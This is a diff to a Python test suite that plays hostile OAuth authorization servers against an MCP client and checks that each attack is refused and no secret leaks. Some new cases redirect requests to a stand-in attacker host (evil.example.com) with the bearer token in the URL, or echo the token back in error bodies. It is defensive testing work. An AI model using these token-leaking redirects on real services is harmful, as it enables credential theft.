@@ -1,8 +1,7 @@
-"""Hostile servers: each is refused at its step, nothing leaves for where it must not, and no secret is seen anywhere."""
+"""Hostile servers: each is refused at its step, nothing leaves for where it must not, and no secret is shown."""
 
 from __future__ import annotations
 
-import itertools
 import json
 from collections.abc import Callable
 from typing import Any
@@ -105,14 +104,11 @@ def echo_as_code(request: Any, handle: Any) -> Any:
     return raw(json.dumps({"error": said}).encode(), code=400)(request, handle)
 
 
-def more_scopes() -> Plan:
-    counter = itertools.count()
-    return refusing(
-        lambda request: httpx.Response(
-            403,
-            headers={"WWW-Authenticate": f'Bearer error="insufficient_scope", scope="read s{next(counter)}"'},
-        )
-    )
+def more_scopes(scene: Scene) -> None:
+    """Another scope is missing each time."""
+    scene.id.settings.scopes = ("read", "write", *(f"s{number}" for number in range(100)))
+    missing = (f'Bearer error="insufficient_scope", scope="s{number}"' for number in range(100))
+    scene.refuses = lambda request: httpx.Response(403, headers={"WWW-Authenticate": next(missing)})
 
 
 def always(code: int, challenge: str) -> Plan:
@@ -176,7 +172,7 @@ class Case:
 
     Attributes:
         plot: What the hostile side does.
-        step: The step that refuses it; None: the calls go on.
+        step: The step that refuses it, or the error if that is of no step; None: the calls go on.
         text: A part of the error.
         evil: Whether the attacker's server may be reached: the server itself names it.
         asked: How often a person is asked.
@@ -265,7 +261,7 @@ SIGNING_IN: dict[str, Case] = {
     "mix-up: the attacker's server says that it is another": Case(
         all_of(
             told(authorization_servers=[EVIL_ID]),
-            answered(f"{EVIL_ID}/.well-known/oauth-authorization-server", lambda: document({"issuer": ID})),
+            lambda scene: scene.evil.faults.update({"metadata": edited(issuer=ID)}),
         ),
         A,
         "is the metadata of",
@@ -436,10 +432,12 @@ SIGNED_IN: dict[str, Case] = {
     "refreshed tokens that expired before": Case(expired(granted(expires_in=-1)), None, asked=1),
     "refreshed tokens that expire at once": Case(expired(granted(expires_in=1e-9)), None, asked=1),
     "refreshed tokens that never hold": Case(expired(granted(access_token="forged")), Z, "refuses the token"),
-    "a refresh whose error repeats all that was sent": Case(expired(fault("token", echo())), Z, "", asked=2),
+    "a refresh whose error repeats all that was sent": Case(
+        expired(fault("token", echo(), raw(b"{}"))), T, "no usable access_token", asked=2
+    ),
     "a refresh whose error is the token": Case(expired(fault("token", echo_as_code)), F, "no error code", asked=1),
     "a refresh that never answers": Case(expired(fault("token", lost)), F, "", asked=1),
-    "a refresh whose answers are cut": Case(expired(fault("token", cut)), None),
+    "a refresh whose answers are cut": Case(expired(fault("token", cut)), F, "cut", asked=1),
     "a server that moves to the attacker's": Case(
         expired(fault("token", status(503)), told(authorization_servers=[EVIL_ID])), None, evil=True, asked=2
     ),
@@ -451,7 +449,7 @@ SIGNED_IN: dict[str, Case] = {
         "but the server is",
         asked=1,
     ),
-    "scopes without end": Case(more_scopes(), Z, "insufficient"),
+    "scopes without end": Case(more_scopes, Z, "insufficient", asked=3),
     "scopes that were granted": Case(always(403, TOO_MUCH), Z, "insufficient"),
     "no scope at all": Case(always(403, 'Bearer error="insufficient_scope"'), Z, "insufficient", asked=1),
     "a token that is never good": Case(always(401, 'Bearer error="invalid_token"'), Z, "refuses the token", asked=2),
@@ -466,7 +464,17 @@ SIGNED_IN: dict[str, Case] = {
     ),
     "an error that is the access token": Case(repeated(401, "WWW-Authenticate", 'Bearer error="%s"'), Z, "refuses"),
     "a scope that is the access token": Case(
-        repeated(403, "WWW-Authenticate", 'Bearer error="insufficient_scope", scope="%s"'), Z, ""
+        repeated(403, "WWW-Authenticate", 'Bearer error="insufficient_scope", scope="%s"'), "HttpError", "status 403"
+    ),
+    "a body that repeats the token": Case(
+        refusing(lambda request: httpx.Response(500, text=f"no: {request.headers['Authorization']}")), "HttpError"
+    ),
+    "a redirection that repeats the token": Case(
+        refusing(lambda request: redirect_to(f"{EVIL_ID}/?{request.headers['Authorization'].split()[1]}", 307)()),
+        "HttpError",
+    ),
+    "a redirection to another origin": Case(
+        refusing(lambda request: redirect_to(f"{EVIL_ID}/mcp", 307)()), "HttpError"
     ),
 }
 
@@ -475,7 +483,8 @@ async def met(case: Case, after: bool, monkeypatch: pytest.MonkeyPatch, caplog: 
     """Let a client meet a plot, and check how it ends."""
     scene = Scene()
     error = await play(scene, case.plot, monkeypatch, caplog, after=after)
-    assert (error and error.step, case.text in str(error or "")) == (case.step, True), error
+    step = None if error is None else getattr(error, "step", type(error).__name__)
+    assert (step, case.text in str(error or "")) == (case.step, True), error
     allowed = {"mcp.example.com", "id.example.com"} | (
         {"evil.example.com", "inside.example.com"} if case.evil else set()
     )
